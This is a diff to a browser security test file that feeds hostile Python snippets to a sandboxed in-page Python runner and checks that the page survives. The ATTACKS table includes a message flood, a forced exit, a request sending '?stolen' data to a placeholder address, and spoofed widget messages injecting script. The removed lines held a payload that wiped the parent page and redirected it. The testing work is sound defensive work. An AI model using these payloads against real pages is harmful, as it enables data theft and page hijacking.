@@ -121,15 +121,12 @@ ANSWER = """
 def mechanism(data, rng):
     return 0
 """
-SPOOFED = """import js, json
-esm = '''export default { render() {
-  try { parent.document.body.remove() } catch {}
-  try { top.location = "about:blank" } catch {}
-  parent.postMessage({ wrong: { line: 1, says: "<img src=x>" } }, "*");
-} }'''
+SEND = "import js\nsend = js.postMessage.bind(None)\n"  # in the first start, `js` is not the worker's own scope
+SPOOFED = """import json
+esm = "export default { render() { document.documentElement.dataset.ran = 1 } }"
 def say(kind, comm, data):
     content = dict(comm_id=comm, target_name="jupyter.widget", data=data)
-    js.postMessage(js.JSON.parse(json.dumps(dict(type=kind, buffers=[], content=content))))
+    send(js.JSON.parse(json.dumps(dict(type=kind, buffers=[], content=content))))
 say("comm_open", "evil", dict(state=dict(_model_name="AnyModel", _model_module="anywidget", _esm=esm)))
 for n in range(99):
     say("comm_msg", f"w{n}", dict(method="update", state=dict(children=["IPY_MODEL_evil"])))
@@ -152,19 +149,20 @@ ATTACKS = {
     ),
     "hidden randomness": ("import random\ndef mechanism(data, rng): return random.random()\n", "Nothing found"),
     "an exit": ("import os\nos._exit(1)\n", "Python ended"),
-    "a flood": ("import js\nwhile True:\n    js.postMessage('x')\n", "more than a page can take"),
+    "a flood": (f"{SEND}while True:\n    send('x')\n", "more than a page can take"),
     "an address": (
         "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', 'ADDRESS?stolen', False)\nx.send()",
         "Line 4: ",
     ),
     "what the site keeps": ("import js\njs.indexedDB.open('x')" + ANSWER, "Line 2: "),
     "a start of its own making": (
-        "import js, os\nfor name in ('memory', 'bytecode'):\n"
+        f"{SEND}import os\nfor name in ('memory', 'bytecode'):\n"
         "    said = js.Object.new()\n    said.kept = js.Object.new()\n    said.kept.name = name\n"
-        "    said.kept.content = js.Blob.new()\n    js.postMessage(said)\nos._exit(1)\n",
+        "    said.kept.content = js.Blob.new()\n    send(said)\nos._exit(1)\n",
         "Python ended",
     ),
-    "a script for the page": (SPOOFED + ANSWER, "<img src=x>"),
+    "a script for the frame": (SEND + SPOOFED + ANSWER, "Nothing found"),
+    "markup": ("raise ValueError('<img src=x>')", "<img src=x>"),
 }
 
 
@@ -180,6 +178,8 @@ def test_code_that_means_harm_is_told_so_and_the_page_lives_on(page: Any, server
         page.wait_for_timeout(3_000)
         if page.locator("#bench-stop").is_enabled():
             page.click("#bench-stop")
+    if answer == "Nothing found":
+        assert page.frames[1].evaluate("document.documentElement.dataset.ran") is None
     still_works(page)
     if answer == "Python ended":
         assert min(page.frames[1].evaluate(LEFT)) > 1 << 20, "another start takes what the first has left, and no code"
